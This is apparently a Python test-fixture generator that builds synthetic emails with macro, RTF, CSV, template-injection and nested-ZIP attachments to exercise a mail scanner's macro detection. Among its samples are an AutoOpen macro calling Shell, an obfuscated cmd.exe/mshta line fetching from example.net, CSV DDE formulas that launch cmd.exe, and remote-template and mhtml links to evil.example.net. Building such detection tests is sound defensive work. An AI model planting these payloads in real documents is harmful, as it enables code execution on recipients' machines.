"""Mails with attached documents of all kinds: macros and none, archives in archives, encrypted, renamed, damaged.

ole(), package() and archive() build the files, attach() a mail; documents() gives (name, mail) pairs, the same each
time. No document of anybody else is in it: what is built has the marks that OLEVBMacro looks for, and no more.
"""
import base64
import io
import itertools
import quopri
import random
import struct
import zipfile
import zlib

WIDE_PACKAGE = "EncryptedPackage".encode("utf-16-le")
WIDE_WORKBOOK = "Workbook".encode("utf-16-le")
TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>%s</Types>')
RELATIONS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '%s</Relationships>')


def ole(*streams, size=6144):
    """A compound file's first bytes, and texts in what would be its streams."""
    head = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1528)
    return bytes(head) + b"".join(b"\0" * 64 + stream for stream in streams) + b"\0" * (size - 1536)


MACRO = b"\x00Attribut\x00e VB_Nam\x00e = \"Module1\"\r\n"
AUTO = b"Sub AutoOpen()\r\nShell \"x\"\r\nEnd Sub"
PLAIN_OLE = ole(WIDE_WORKBOOK)
MACRO_OLE = ole(WIDE_WORKBOOK, MACRO)
AUTO_OLE = ole(WIDE_WORKBOOK, MACRO, AUTO)


def archive(members, method=zipfile.ZIP_DEFLATED, comment=b"", prefix=b""):
    """A ZIP of (name, bytes) pairs or a dict."""
    out = io.BytesIO()
    out.write(prefix)
    with zipfile.ZipFile(out, "w", method) as made:
        made.comment = comment
        for name, data in members.items() if isinstance(members, dict) else members:
            info = zipfile.ZipInfo(name, (2024, 1, 2, 3, 4, 6))
            info.compress_type = method
            made.writestr(info, data)
    return out.getvalue()


def relation(target, mode="External"):
    return (f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'attachedTemplate" Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>")


def package(kind="word", types="", macro=None, relations=(), more=None, **options):
    members = {"[Content_Types].xml": TYPES % types,
               "_rels/.rels": RELATIONS % relation(f"{kind}/document.xml", None),
               f"{kind}/document.xml": "<w:document>" + "Hello " * 300 + "</w:document>"}
    if macro is not None:
        members[f"{kind}/vbaProject.bin"] = macro
    if relations:
        members[f"{kind}/_rels/settings.xml.rels"] = RELATIONS % "".join(map(relation, relations))
    members.update(more or {})
    return archive(members, **options)


def encrypted(data):
    """Marks the entries of an archive as encrypted; nobody could decrypt them."""
    data = bytearray(data)
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def zip64(name, body):
    """One entry whose sizes and places stand in ZIP64's records alone."""
    crc, name = zlib.crc32(body), name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 45, 0, 0, 0, 33, crc, 0xffffffff, 0xffffffff, len(name), 20)
    local += name + struct.pack("<HHQQ", 1, 16, len(body), len(body)) + body
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 45, 45, 0, 0, 0, 33, crc, 0xffffffff, 0xffffffff,
                          len(name), 28, 0, 0, 0, 0, 0xffffffff) + name + struct.pack("<HHQQQ", 1, 24, len(body), len(body), 0)
    end64 = struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, 1, 1, len(central), len(local))
    locator = struct.pack("<IIQI", 0x07064b50, 0, len(local) + len(central), 1)
    end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 0xffff, 0xffff, 0xffffffff, 0xffffffff, 0)
    return local + central + end64 + locator + end


def attach(files, encoding="base64", text="See the attachment.\n"):
    """A mail with (name, bytes) pairs or (fields, bytes) where fields end in a line end."""
    parts = [f"Content-Type: text/plain\n\n{text}".encode()]
    for name, data in files:
        fields = name if name.endswith("\n") else (
            f"Content-Type: application/octet-stream; name=\"{name}\"\n"
            f"Content-Disposition: attachment; filename=\"{name}\"\n")
        body = (base64.encodebytes(data) if encoding == "base64" else
                quopri.encodestring(data).replace(b"\r\n", b"=0D=0A=\n") if encoding == "quoted-printable" else data)
        transfer = f"Content-Transfer-Encoding: {encoding}\n" if encoding else ""
        parts.append((fields + transfer).encode() + b"\n" + body)
    head = (b"From: Ann <ann@example.org>\nTo: bob@example.com\nSubject: papers\nMessage-ID: <1@example.org>\n"
            b"Date: Sat, 28 Nov 2026 10:00:00 +0000\nMIME-Version: 1.0\n"
            b"Content-Type: multipart/mixed; boundary=\"=_b\"\n\n")
    return head + b"".join(b"--=_b\n" + part + b"\n" for part in parts) + b"--=_b--\n"


def bodies():
    """(what it is, bytes): files as such, without a name."""
    macro_types = '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    yield "text", b"just text, and some more of it\n"
    yield "png", b"\x89PNG\r\n\x1a\n" + b"\0" * 500
    yield "ole", PLAIN_OLE
    yield "ole-macro", MACRO_OLE
    yield "ole-auto", AUTO_OLE
    yield "ole-native", ole(b"\x01\0O\0l\0e\0" + "10Native".encode("utf-16-le"))
    yield "ole-encrypted", ole(WIDE_PACKAGE)[:512] + WIDE_PACKAGE + b"\0" * 4000
    yield "ole-encrypted-xml", ole(WIDE_WORKBOOK, b'<encryption xmlns="x">')
    for at, byte in ((0x208, 0xfe), (0x214, 0x2f), (0x20b, 0x13)):
        data = bytearray(ole(b"x"))
        data[at] = byte
        yield f"ole-encrypted-{at:x}", bytes(data)
    yield "ole-short", b"\xd0\xcf\x11\xe0"
    yield "ole-exe", ole(b"\0http://download.example.net/files/setup-program.exe\0")
    yield "ole-exe-6", ole(b"\0HTTPS://download.example.net/files/setup-program.CMD\x06")
    yield "ole-exe-short", ole(b"\0http://a.b/c.exe\0")
    yield "ole-exe-long", ole(b"\0http://example.net/" + b"a" * 3000 + b".exe\0")
    yield "ole-exe-end", ole(b"\0http://example.net/files/program?.exe\0")
    yield "ole-hta", ole(b"cmd.exe /c ms^h^ta ht^tp:/^/example.net/x")
    yield "rtf", rb"{\rtf1 Hello \b world\b0 }"
    yield "rtf-object", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"
    yield "rtf-object-2", rb"{\rtf1{\object{\* objdata 0105}}}".replace(b"* obj", b"*\\ objdat")
    yield "xml-macro", b'<?xml version="1.0"?><w:wordDocument w:macrosPresent="yes" />'
    yield "csv", b"a,b,c\n1,2,3\n"
    yield "csv-command", b"a,=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe' /c calc\n"
    yield "csv-command-far", b"a,=MSEXCEL|'" + b"." * 30 + b"\\Windows\\System32\\cmd.exe'\n"
    yield "csv-command-line", b"a,=MSEXCEL|'\nWindows\\System32\\cmd.exe'\n"
    yield "docx", package()
    yield "docx-stored", package(method=zipfile.ZIP_STORED)
    yield "docx-types", package(types=macro_types)
    yield "docx-types-quote", package(types="<Default ContentType='application/vnd.ms-office.vbaProject'/>")
    yield "docx-types-noquote", package(types="<Default x=\"application/vnd.ms-office.vbaProject\"/>")
    yield "xlsx-macrosheet", package("xl", types='<D ContentType="application/vnd.ms-excel.IntlMacrosheet+xml"/>')
    yield "docm", package(macro=MACRO_OLE)
    yield "docm-auto", package(macro=AUTO_OLE)
    yield "docm-auto-other", package(macro=MACRO_OLE, more={"word/other.bin": b"x Workbook_Open x"})
    yield "docm-stored", package(macro=AUTO_OLE, method=zipfile.ZIP_STORED)
    yield "docm-case", package(more={"WORD/VBAPROJECT.BIN": AUTO_OLE})
    yield "pptm", package("ppt", macro=AUTO_OLE)
    yield "xlsm", package("xl", macro=AUTO_OLE)
    yield "xlsx-object", package("xl", more={"xl/embeddings/oleObject1.bin": AUTO_OLE})
    yield "docx-rtf", package(more={"word/afchunk.rtf": b"{\\rtf1}"})
    yield "docx-rtf-50", package(more={"word/" + "a" * 50 + ".rtf": b"{\\rtf1}"})
    yield "docx-rtf-51", package(more={"word/" + "a" * 51 + ".rtf": b"{\\rtf1}"})
    yield "docx-rtf-word", package(more={"word/a.rtfx": b"{\\rtf1}", "word/.rtf": b""})
    yield "docx-template", package(relations=["http://templates.example.net/a.dotm"])
    yield "docx-targets", package(relations=[f"https://t{n}.example.net/a?x={n}&amp;y" for n in range(14)])
    yield "docx-target-odd", package(relations=["HTTP://Template.Example.ORG:80/%41.dotm", "file:///c:/x", "ftp://example.net/x",
                                                "http://nowhere/", "http:///x"])
    yield "docx-mhtml", package(relations=["mhtml:http://evil.example.net/a.html!x-usc:http://evil.example.net/a.html"])
    yield "docx-mhtml-coded", package(relations=["MHTML:&#x48;&#x54;&#x50;&#x3a;&#x5c;&#x5c;&#x31;&#x39;"])
    yield "docx-mhtml-many", package(relations=[f"mhtml:https://e{n}.example.net/" for n in range(8)])
    yield "docx-inner-rels", archive({"x.rels": ""})
    yield "docx-only-rels", archive({"x.rels": "Relationship Relationship "})
    yield "docx-comment", package(macro=AUTO_OLE, comment=b"hello " * 100)
    yield "docx-comment-long", package(macro=AUTO_OLE, comment=b"x" * 40000)
    yield "docx-behind-text", package(macro=AUTO_OLE, prefix=b"PK text before the archive\n")
    yield "docx-moved", b"PK moved" + package(macro=AUTO_OLE)
    yield "docx-and-tail", package(macro=AUTO_OLE) + b"tail"
    yield "docx-cut", package(macro=AUTO_OLE)[:-30]
    yield "docx-entry-cut", package(macro=AUTO_OLE)[40:]
    yield "docx-bad-deflate", package(macro=AUTO_OLE).replace(b"PK\x03\x04\x14\x00\x00\x00\x08", b"PK\x03\x04\x14\x00\x00\x00\x08", 1)
    yield "zip64", zip64("word/vbaProject.bin", AUTO_OLE)
    yield "zip64-doc", zip64("a.doc", AUTO_OLE)
    yield "empty-zip", archive({})
    yield "pk", b"PK\x03\x04 nothing"
    yield "zip-text", archive({"readme.txt": "hello"})
    yield "zip-doc", archive({"a.doc": AUTO_OLE})
    yield "zip-docm", archive({"a.docm": package(macro=AUTO_OLE)})
    yield "zip-docm-named", archive({"a.docm": b"nothing"})
    yield "zip-upper", archive({"A.DOC": AUTO_OLE, "B.DOCM": package(macro=AUTO_OLE)})
    yield "zip-skip", archive({"a.pptx": package("ppt", macro=AUTO_OLE)})
    yield "zip-csv", archive({"a.csv": b"=MSEXCEL|'\\Windows\\System32\\cmd.exe'"})
    yield "zip-renamed", archive({"a.jpg": AUTO_OLE, "b.dat": package(relations=["https://zipped.example.net/x"])})
    yield "zip-in-zip", archive({"b.zip": archive({"a.doc": AUTO_OLE})})
    yield "zip-in-zip-in-zip", archive({"c.zip": archive({"b.zip": archive({"a.doc": AUTO_OLE})})})
    yield "zip-deep", archive({"d.zip": archive({"c.zip": archive({"b.zip": archive({"a.docm": b"x"})})})})
    yield "zip-many", archive([(f"{n}.txt", "x") for n in range(30)] + [("a.doc", AUTO_OLE)])
    yield "zip-many-docs", archive([(f"{n}.doc", PLAIN_OLE) for n in range(8)] + [("a.doc", AUTO_OLE)])
    yield "zip-7-docs", archive([(f"{n}.doc", PLAIN_OLE) for n in range(7)] + [("a.doc", AUTO_OLE)])
    yield "zip-encrypted", encrypted(archive({"a.doc": AUTO_OLE}))
    yield "zip-encrypted-docm", encrypted(archive({"a.docm": AUTO_OLE}))
    yield "zip-encrypted-txt", encrypted(archive({"a.txt": b"x"}))
    yield "zip-in-encrypted", archive({"b.zip": encrypted(archive({"a.xls": b"x"}))})
    yield "zip-folders", archive([("word/", b""), ("xl/embeddings/", b""), ("a.doc", AUTO_OLE)])
    yield "zip-empty-doc", archive({"a.doc": b"", "b.docm": b""})
    yield "zip-lzma", archive({"a.doc": AUTO_OLE}, method=zipfile.ZIP_LZMA)
    yield "zip-bzip2", archive({"a.docm": package(macro=AUTO_OLE)}, method=zipfile.ZIP_BZIP2)
    yield "zip-utf8", archive({"Rechnung März.doc": AUTO_OLE})
    yield "zip-newline", archive({"a.doc\n": AUTO_OLE, "b.zip\n": archive({"c.doc": AUTO_OLE})})


NAMES = ("a.doc", "a.docx", "a.docm", "a.xls", "a.xlsb", "a.ppt", "a.rtf", "a.zip", "a.pptx", "a.csv", "a.jpg", "A.DOC",
         "a.dat", "a.xlsx")


def documents():
    everything = list(bodies())
    by_name = dict(everything)
    for what, data in everything:
        kind = ("a.zip" if what.startswith(("zip", "empty-zip", "pk")) else "a.csv" if what.startswith("csv") else
                "a.rtf" if what.startswith("rtf") else "a.doc")
        yield f"{what} as {kind}", attach([(kind, data)])
        yield f"{what} as a.bin", attach([("a.bin", data)])
    chance = random.Random(42)
    for what, name in itertools.product(("ole-auto", "docm-auto", "zip-doc", "docx-template", "csv-command", "ole-encrypted",
                                         "rtf-object", "text"), NAMES):
        yield f"{what} as {name}", attach([(name, by_name[what])])
    for number in range(80):
        picked = [chance.choice(everything) for _ in range(chance.randint(2, 7))]
        yield f"several {number}", attach([(chance.choice(NAMES), data) for _, data in picked])
    for encoding in ("quoted-printable", "7bit", "", "x-uuencode", "Base64"):
        yield f"rtf {encoding}", attach([("a.rtf", by_name["rtf-object"])], encoding=encoding)
        yield f"csv {encoding}", attach([("a.csv", by_name["csv-command"])], encoding=encoding)
    doc = AUTO_OLE
    for number, fields in enumerate((
            "Content-Type: application/msword\nContent-Disposition: attachment; filename=a.doc\n",
            "Content-Type: application/msword; name=a.doc\n",
            "Content-Type: application/msword; name='a.doc'\nContent-Disposition: inline\n",
            "Content-Type: application/msword; name=a.txt\nContent-Disposition: attachment; filename=a.doc\n",
            "Content-Type: application/msword; name=a.doc\nContent-Disposition: attachment; filename=a.txt\n",
            "Content-Type: application/msword; name=A.doc\nContent-Disposition: attachment; filename=a.DOC\n",
            "Content-Type: application/msword\n",
            "Content-Type: application/msword; name=\"=?UTF-8?B?w6QuZG9j?=\"\n",
            "Content-Type: application/msword; name=\"=?utf-8?q?a=2E?=\n =?utf-8?q?doc?=\"\n",
            "Content-Type: application/msword;\n\tname=\"a long\n name.doc\"\n",
            "Content-Type: application/msword; name = a.doc ; x=y\n",
            "Content-Type: text/plain; name=a.doc\n",
            "Content-Type: TEXT/html; name=a.doc\n",
            "Content-Disposition: attachment; filename=a.doc\n",
            "Content-Type: application/msword; name=a.doc \nContent-Type: application/msword; name=a.txt\n",
            "Content-Type: image/png; name=a.doc\n", "Content-Type: x; name=a.doc\n")):
        yield f"fields {number}", attach([(fields, doc)])
    big = ole(WIDE_WORKBOOK, b"x" * 1030000, MACRO)
    yield "beyond max_file", attach([("a.doc", big)])
    yield "archive beyond max_file", attach([("a.zip", archive({"a.doc": AUTO_OLE, "b": random.Random(1).randbytes(1100000)}))])
    yield "no attachment", attach([])
